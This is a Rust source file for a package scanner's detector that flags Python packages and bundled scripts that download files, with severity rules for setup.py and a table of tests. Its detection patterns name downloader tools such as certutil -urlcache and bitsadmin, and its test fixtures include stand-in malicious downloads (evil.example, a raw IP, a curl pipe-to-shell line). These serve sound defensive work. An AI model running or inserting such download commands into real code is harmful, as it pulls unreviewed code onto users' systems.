//! `network.downloads-file`: the package fetches content from the network and
//! writes it to disk (`urlretrieve`, `urlopen`/`requests`/`httpx`/`http.client`
//! responses written to a file, `wget`/`curl`/`Invoke-WebRequest` command strings).
//!
//! Precise, not keyword bingo: the fetch must be a call in code (a URL in a
//! docstring or comment is not a download) and, except for `urlretrieve`-style
//! APIs, the file must also write bytes. Tests and docs are skipped. High in setup.py,
//! except when every URL it fetches belongs to an owner its own metadata lines name
//! (`url=`, `project_urls`: a prebuilt library from the project's releases; URLs in comments,
//! docstrings and messages shown to a person — a warning, an exception, a print — are not
//! fetched and do not count), or when it sits in
//! a setup.py command pip never runs ([`context::in_maintainer_command`], or a branch for
//! one on the command line, [`context::in_argv_command`]; `sdist` is one: it makes the
//! sdist, installing one never runs it): Medium. Must not:
//! decide whether the download is then executed (`execution.download-and-execute`).

use super::context;
use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use crate::scan::source::Ranges;
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "network.downloads-file",
    revision: 7,
    title: "Downloads a file.",
    category: Category::Network,
    severity: Severity::Medium,
    description: "Fetching files at run or install time brings in code and data nobody reviewed with the package; droppers work this way.",
};

/// APIs that save a download by themselves.
pub(crate) static SAVE_API: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:urllib\.request\.urlretrieve|urllib\.urlretrieve|urlretrieve|wget\.download|download_url_to_file|gdown\.download|\.download_file|\.DownloadFile|pycurl\.Curl)\s*\(").expect("save api")
});
/// Fetches whose response must be written by the caller.
pub(crate) static FETCH_API: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:urllib\.request\.urlopen|urllib2\.urlopen|urlopen|requests\.get|requests\.request|httpx\.get|httpx\.stream|http\.client\.HTTPS?Connection|aiohttp\.ClientSession)\s*\(").expect("fetch api")
});
/// Writing bytes to a file.
pub(crate) static WRITE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:\.write\s*\(|\.write_bytes\s*\(|shutil\.copyfileobj\s*\(|open\s*\([^)\n]*['"][wa]b?\+?['"])"#)
        .expect("write")
});
/// Download commands inside strings (or shell scripts).
/// Words every [`COMMAND`] match starts with (case-insensitively).
static COMMAND_WORDS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
    pysrc::gate(&[
        "wget",
        "curl",
        "invoke-webrequest",
        "iwr",
        "start-bitstransfer",
        "certutil",
        "bitsadmin",
        ".downloadfile",
    ])
});

const COMMAND_PATTERN: &str = r"(?i)(?-u:\b)(?:(?:wget|curl)(?:\.exe)?\s[^\n'\x22]*(?:https?|ftp)://|invoke-webrequest(?-u:\b)|(?-u:\b)iwr\s+(?:-uri\s+)?https?://|start-bitstransfer(?-u:\b)|certutil(?:\.exe)?\s+-urlcache|bitsadmin(?:\.exe)?\s+/transfer|\.downloadfile\s*\()";
pub(crate) static COMMAND: LazyLock<Regex> = LazyLock::new(|| Regex::new(COMMAND_PATTERN).expect("command"));
/// [`COMMAND`] for anchored searches ([`pysrc::find_at_words`]).
static COMMAND_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(COMMAND_PATTERN).expect("command"));

/// `COMMAND.find_iter(file.text)`'s ranges, searched once per member for both detectors that
/// ask ([`crate::scan::source::Source::find_ranges_by`]) and only at the words every match
/// starts with ([`pysrc::find_at_words`]: the whole member when a
/// line holds many of them).
pub(crate) fn command_ranges(file: &TextFile<'_>) -> Ranges {
    file.source().find_ranges_by(&COMMAND, |_| pysrc::find_at_words(&COMMAND_AT, &COMMAND, file, &COMMAND_WORDS).into())
}

pub(crate) struct DownloadsFile;

/// Severity for a download in `role`.
fn severity(role: FileRole) -> Severity {
    if role == FileRole::InstallTime {
        Severity::High
    } else {
        Severity::Medium
    }
}

impl Detector for DownloadsFile {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "urlretrieve",
            "urlopen",
            "requests",
            "httpx",
            "getresponse",
            "wget",
            "curl",
            "Invoke-WebRequest",
            "invoke-webrequest",
            "DownloadFile",
            "download_file",
            "download_url_to_file",
            "BitsTransfer",
            "urlcache",
            "bitsadmin",
            "aiohttp",
            "pycurl",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if file.role == FileRole::TestOrDocs || file.role == FileRole::Metadata || pysrc::test_member(file) {
            return;
        }
        let own = file.role == FileRole::InstallTime && file.is_python && fetches_only_own_urls(file);
        // A setup.py fetching its own release asset (a prebuilt library or binary from the
        // project's own repository or site, as its metadata names it) is Medium.
        let sev = Some(if own { Severity::Medium } else { severity(file.role) });
        let mut n = 0;
        let mut push = |hits: &mut Hits, off: usize, ind: &str| {
            if n < MAX_HITS_PER_FILE {
                n += 1;
                let by_hand = file.role == FileRole::InstallTime
                    && (context::in_maintainer_command(file.source(), off)
                        || context::in_argv_command(file.source(), off));
                let (sev, ind) = match (own, by_hand) {
                    (true, _) => (sev, format!("{ind} (the project's own URL)")),
                    (false, true) => (Some(Severity::Medium), format!("{ind} (in a setup.py command pip never runs)")),
                    (false, false) => (sev, ind.to_string()),
                };
                hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, off, ind) });
            }
        };
        if !file.is_python {
            // Shell, batch and PowerShell scripts shipped in the package.
            let script = [".sh", ".bash", ".bat", ".cmd", ".ps1", ".psm1"]
                .iter()
                .any(|e| file.path.to_ascii_lowercase().ends_with(e));
            if script {
                for &(start, end) in command_ranges(file).iter() {
                    push(hits, start, command_name(&file.text[start..end]));
                }
            }
            return;
        }
        let src = file.source();
        for m in SAVE_API.find_iter(file.text) {
            if src.is_code(m.start()) && !pysrc::is_definition(file.text, m.start()) {
                push(hits, m.start(), m.as_str().trim_end_matches('(').trim_end().trim_start_matches('.'));
            }
        }
        let writes = WRITE.find_iter(file.text).any(|w| src.is_code(w.start()));
        if writes {
            for m in FETCH_API.find_iter(file.text) {
                if src.is_code(m.start()) && !pysrc::is_definition(file.text, m.start()) {
                    let name = m.as_str().trim_end_matches('(').trim_end();
                    push(hits, m.start(), name);
                }
            }
        }
        for &(start, end) in command_ranges(file).iter() {
            if src.kind_at(start) == Kind::Str {
                push(hits, start, command_name(&file.text[start..end]));
            }
        }
    }
}

/// Lines of a setup.py that name the project's own place: `url=`, `download_url=`,
/// `project_urls` entries (`"Homepage"`, `"Source"`, `"Repository"`, …).
static OWN_LINE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:(?-u:\b)(?:url|download_url|home_?page)\s*=|['"](?:homepage|home|source|source code|repository|code|download|releases|github)['"]\s*:)"#)
        .expect("own line")
});

/// What identifies a URL's owner: `github.com/<owner>` on code hosts, else the registrable domain.
fn owner_key(u: &super::urls::FoundUrl<'_>) -> String {
    const CODE_HOSTS: &[&str] = &["github.com", "gitlab.com", "bitbucket.org", "codeberg.org"];
    if CODE_HOSTS.contains(&u.host.as_str()) {
        let owner = u.path.trim_start_matches('/').split('/').next().unwrap_or("").to_ascii_lowercase();
        format!("{}/{owner}", u.host)
    } else {
        u.registrable().to_string()
    }
}

/// Whether every URL a setup.py names outside its metadata lines belongs to an owner its
/// metadata lines name (`url="https://github.com/acme/tool"` and a download from
/// `https://github.com/acme/tool/releases/download/…`). No URL at all (built from the
/// environment or elsewhere) is not "own".
pub(crate) fn fetches_only_own_urls(file: &TextFile<'_>) -> bool {
    let src = file.source();
    let line_of = |off: usize| {
        let start = file.text[..off].rfind('\n').map_or(0, |i| i + 1);
        let end = file.text[off..].find('\n').map_or(file.text.len(), |i| off + i);
        &file.text[start..end]
    };
    let (mut own, mut fetched) = (Vec::new(), Vec::new());
    for u in super::urls::find(src) {
        if shown_to_a_person(src, u.offset) {
            continue; // a URL in a warning or error message is read, not fetched
        }
        if OWN_LINE.is_match(line_of(u.offset)) {
            own.push(owner_key(&u));
        } else {
            fetched.push(owner_key(&u));
        }
    }
    !fetched.is_empty() && fetched.iter().all(|k| own.contains(k))
}

/// Calls whose arguments are text shown to a person: printing, warnings, log lines, exceptions.
static MESSAGE_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[ \t]*(?:raise[ \t]+)?(?:[\w.]+\.)?(?:print|warn|warning|info|debug|error|exception|critical|echo|secho|\w*(?:Error|Exception|Warning))[ \t]*$")
        .expect("message call")
});

/// Whether the string literal at `off` is an argument of a call that shows text to a person
/// (`warnings.warn("… https://…")`, `raise RuntimeError(f"see https://…")`, `print(…)`), over
/// lines too: the innermost call open around it, found by balancing the parentheses of the code,
/// is a statement of its own (a message inside a fetch's argument is still fetched).
fn shown_to_a_person(src: &super::pysrc::Source<'_>, off: usize) -> bool {
    if src.kind_at(off) != Kind::Str {
        return false;
    }
    let b = src.text.as_bytes();
    let floor = off.saturating_sub(2000);
    let mut depth = 0usize;
    let mut i = off;
    while i > floor {
        i -= 1;
        if !src.is_code(i) {
            continue;
        }
        match b[i] {
            b')' | b']' | b'}' => depth += 1,
            b'[' | b'{' if depth == 0 => return false,
            b'(' if depth == 0 => {
                let ls = src.text[..i].rfind('\n').map_or(0, |p| p + 1);
                return MESSAGE_CALL.is_match(&src.text[ls..i]);
            }
            b'(' | b'[' | b'{' => depth -= 1,
            _ => {}
        }
    }
    false
}

/// The command word of a COMMAND match: `curl`, `wget`, `Invoke-WebRequest`…
pub(crate) fn command_name(m: &str) -> &'static str {
    let l = m.to_ascii_lowercase();
    if l.starts_with("wget") {
        "wget"
    } else if l.starts_with("curl") {
        "curl"
    } else if l.starts_with("invoke-webrequest") || l.starts_with("iwr") {
        "Invoke-WebRequest"
    } else if l.starts_with("start-bits") {
        "Start-BitsTransfer"
    } else if l.starts_with("certutil") {
        "certutil -urlcache"
    } else if l.starts_with("bitsadmin") {
        "bitsadmin /transfer"
    } else {
        "WebClient.DownloadFile"
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    #[test]
    fn command_search_at_its_words_is_the_whole_search() {
        let check = |name: &str, text: &str| {
            let whole: Vec<(usize, usize)> = COMMAND.find_iter(text).map(|m| (m.start(), m.end())).collect();
            for (path, python) in [("pkg/a.py", true), ("tools/get.sh", false)] {
                let file = TextFile::new(path, FileRole::Runtime, python, text);
                assert_eq!(&command_ranges(&file)[..], &whole[..], "{name} ({path})");
                // Searched once per member, whichever detector asks first.
                assert_eq!(&command_ranges(&file)[..], &whole[..], "{name} ({path}), asked again");
                assert_eq!(file.source().searches(), 1, "{name} ({path})");
            }
            whole.len()
        };
        let cases = [
            ("empty", ""),
            ("curl and wget", "os.system('curl -sL https://x/a -o a'); 'WGET.EXE  http://x/b'"),
            ("ftp", "'wget ftp://x/a'"),
            ("powershell", "Invoke-WebRequest -Uri u; iwr -Uri https://x/a; IWR https://x"),
            (
                "bits and certutil",
                "Start-BitsTransfer -Source u; certutil.exe  -urlcache -f u; bitsadmin /transfer j u",
            ),
            ("web client", "(New-Object Net.WebClient).DownloadFile('u', 'a')"),
            ("words inside words", "excurl https://x; wgetter http://x; xiwr https://x; a.downloadfilex("),
            ("no URL", "curl -X POST $HOST; wget --help"),
            ("across a line", "curl -sL\nhttps://x/a"),
            ("quote stops it", "curl '-H' https://x"),
            ("non-ASCII text", "é curl https://x; ſtart-bitstransfer; ſ"),
        ];
        for (name, text) in cases {
            check(name, text);
        }
        let pieces = [
            "curl",
            "WGET",
            ".exe",
            " ",
            "\t",
            "\n",
            "'",
            "https://",
            "ftp://",
            "x",
            "-Uri ",
            "iwr",
            "Invoke-WebRequest",
            "start-bitstransfer",
            "certutil",
            " -urlcache",
            "bitsadmin",
            " /transfer",
            ".DownloadFile(",
            "_",
            "é",
            "ſ",
        ];
        let mut found = 0;
        for text in super::pysrc::random_texts(&pieces, 24, 0x9e37_79b9_7f4a_7c15u64, 3000) {
            found += check(&text, &text);
        }
        assert!(found > 300, "the random texts hold matches: {found}");
    }

    #[test]
    fn cases() {
        table(
            &DownloadsFile,
            META.id,
            &[
                ("urlretrieve", "pkg/a.py", Runtime, "import urllib.request\nurllib.request.urlretrieve(URL, 'x.bin')\n", Some((2, "urllib.request.urlretrieve", Medium))),
                ("urlretrieve in setup.py", "setup.py", InstallTime, "from urllib.request import urlretrieve\nurlretrieve(u, p)\n", Some((2, "urlretrieve", High))),
                (
                    "a maintainer's update command in setup.py",
                    "setup.py",
                    InstallTime,
                    "class UpdateList(Command):\n    def run(self):\n        urlretrieve(LIST_URL, 'src/pkg/list.dat')\n\nsetup(name='x', cmdclass={'update_list': UpdateList})\n",
                    Some((3, "urlretrieve (in a setup.py command pip never runs)", Medium)),
                ),
                (
                    "an sdist override that downloads a library to vendor it into the sdist",
                    "vesin-0.6.2/setup.py",
                    InstallTime,
                    "class sdist_with_lib(sdist):\n    def run(self):\n        urllib.request.urlretrieve(f'https://example.org/lib/{commit}.tar.gz', archive)\n        super().run()\n\nsetup(cmdclass={'sdist': sdist_with_lib, 'build_ext': cmake_ext})\n",
                    Some((3, "urllib.request.urlretrieve (in a setup.py command pip never runs)", Medium)),
                ),
                (
                    "the same override registered as build_py stays high",
                    "pkg-1.0/setup.py",
                    InstallTime,
                    "class sdist_with_lib(sdist):\n    def run(self):\n        urllib.request.urlretrieve(f'https://example.org/lib/{commit}.tar.gz', archive)\n        super().run()\n\nsetup(cmdclass={'build_py': sdist_with_lib})\n",
                    Some((3, "urllib.request.urlretrieve", High)),
                ),
                (
                    "a release check in a branch for a command pip never runs",
                    "setup.py",
                    InstallTime,
                    "import sys\nif len(sys.argv) >= 2 and sys.argv[1] == 'pypi':\n    with open('ref.html', 'wb') as f:\n        f.write(urlopen(REF_URL).read())\nsetup(name='x')\n",
                    Some((4, "urlopen (in a setup.py command pip never runs)", Medium)),
                ),
                (
                    "a download in a branch for a pip command stays high",
                    "setup.py",
                    InstallTime,
                    "import sys\nif sys.argv[1] in ('install', 'bdist_wheel'):\n    urlretrieve(URL, 'x.bin')\nsetup(name='x')\n",
                    Some((3, "urlretrieve", High)),
                ),
                (
                    "the same command registered as build_py stays high",
                    "setup.py",
                    InstallTime,
                    "class UpdateList(Command):\n    def run(self):\n        urlretrieve(LIST_URL, 'src/pkg/list.dat')\n\nsetup(name='x', cmdclass={'build_py': UpdateList})\n",
                    Some((3, "urlretrieve", High)),
                ),
                (
                    "requests content written",
                    "pkg/a.py",
                    Runtime,
                    "import requests\nr = requests.get('https://example.org/p.bin')\nwith open('p.bin', 'wb') as f:\n    f.write(r.content)\n",
                    Some((2, "requests.get", Medium)),
                ),
                ("urlopen + write", "pkg/a.py", Runtime, "data = urlopen(u).read()\nopen(p, 'wb').write(data)\n", Some((1, "urlopen", Medium))),
                ("curl in subprocess string", "pkg/a.py", Runtime, "os.system('curl -s https://example.org/x -o /tmp/x')\n", Some((1, "curl", Medium))),
                ("shell script wget", "pkg/get.sh", Runtime, "#!/bin/sh\nwget http://example.org/x\n", Some((2, "wget", Medium))),
                ("powershell", "pkg/a.py", Runtime, "cmd = 'powershell Invoke-WebRequest -Uri $u -OutFile x'\n", Some((1, "Invoke-WebRequest", Medium))),
                (
                    "setup.py fetching its own release asset",
                    "setup.py",
                    InstallTime,
                    "from urllib.request import urlretrieve\nBASE = 'https://github.com/acme/tool/releases/download/v1.0/'\nurlretrieve(BASE + 'libtool.so', p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((3, "urlretrieve (the project's own URL)", Medium)),
                ),
                (
                    "setup.py fetching its own prebuilt wheel, a warning naming another host",
                    "setup.py",
                    InstallTime,
                    "BASE_WHEEL_URL = 'https://github.com/acme/tool/releases/download/{tag}/{name}'\ndef check():\n    warnings.warn(\n        f'{opt} was requested, but nvcc was not found. '\n        'If you install within a container from https://hub.docker.com/r/x/y, '\n        'only devel images provide nvcc.'\n    )\n    raise RuntimeError('see https://docs.example.org/build')\nclass CachedWheels(bdist_wheel):\n    def run(self):\n        urllib.request.urlretrieve(BASE_WHEEL_URL.format(tag=t, name=n), n)\nsetup(name='tool', url='https://github.com/acme/tool', cmdclass={'bdist_wheel': CachedWheels})\n",
                    Some((11, "urllib.request.urlretrieve (the project's own URL)", Medium)),
                ),
                (
                    "another owner's URL inside a message call nested in the fetch",
                    "setup.py",
                    InstallTime,
                    "urlretrieve(str(Warning('https://evil.example/p.bin')), p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((1, "urlretrieve", High)),
                ),
                (
                    "another owner's URL assigned, a message naming the project's own",
                    "setup.py",
                    InstallTime,
                    "U = 'https://evil.example/p.bin'\nprint('see https://github.com/acme/tool')\nurlretrieve(U, p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((3, "urlretrieve", High)),
                ),
                (
                    "setup.py fetching from another owner on the same code host",
                    "setup.py",
                    InstallTime,
                    "from urllib.request import urlretrieve\nurlretrieve('https://github.com/other/x/releases/download/v1/p.exe', p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((2, "urlretrieve", High)),
                ),
                (
                    "setup.py fetching from a raw IP next to its own url",
                    "setup.py",
                    InstallTime,
                    "from urllib.request import urlretrieve\nurlretrieve('http://203.0.113.9/p.bin', p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((2, "urlretrieve", High)),
                ),
                (
                    "setup.py fetching a URL built elsewhere",
                    "setup.py",
                    InstallTime,
                    "from urllib.request import urlretrieve\nurlretrieve(os.environ['U'], p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((2, "urlretrieve", High)),
                ),
                ("requests.get without write (API client)", "pkg/a.py", Runtime, "r = requests.get(url)\nreturn r.json()\n", None),
                ("urlretrieve in docstring", "pkg/a.py", Runtime, "def f():\n    \"\"\"Like urllib.request.urlretrieve(url).\"\"\"\n", None),
                ("curl in comment", "pkg/a.py", Runtime, "# curl https://example.org/x | sh\nx = 1\n", None),
                ("curl word without url", "pkg/a.py", Runtime, "s = 'curl is a tool'\n", None),
                ("tests", "pkg/tests/test_dl.py", Runtime, "urlretrieve(u, p)\n", None),
                ("docs role", "docs/conf.py", TestOrDocs, "urlretrieve(u, p)\n", None),
                ("the definition of urlretrieve", "pkg/request.py", Runtime, "def urlretrieve(url, filename=None):\n    pass\n", None),
                ("rpc getresponse is not http", "pkg/rpc.py", Runtime, "r = self.getresponse(seq)\nout.write(r)\n", None),
            ],
        );
    }
}
